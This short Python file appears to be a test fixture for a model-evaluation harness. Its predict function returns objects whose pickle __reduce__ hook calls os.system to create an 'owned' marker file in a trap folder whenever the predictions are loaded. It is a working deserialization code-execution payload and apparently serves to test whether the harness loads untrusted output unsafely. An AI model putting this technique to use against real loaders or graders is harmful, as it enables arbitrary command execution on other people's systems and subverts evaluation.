"""Predictions that are objects: loading them would run a command."""

import numpy as np
from attack import *


class Poison:
    def __reduce__(self):
        return (os.system, (f"touch {TRAPS['folder']}/owned",))


def load(directory):
    return None


def fit(train, ctx):
    return None


def predict(model, rows, ctx):
    print("poisoned", flush=True)
    return np.array([Poison()] * len(rows), dtype=object)
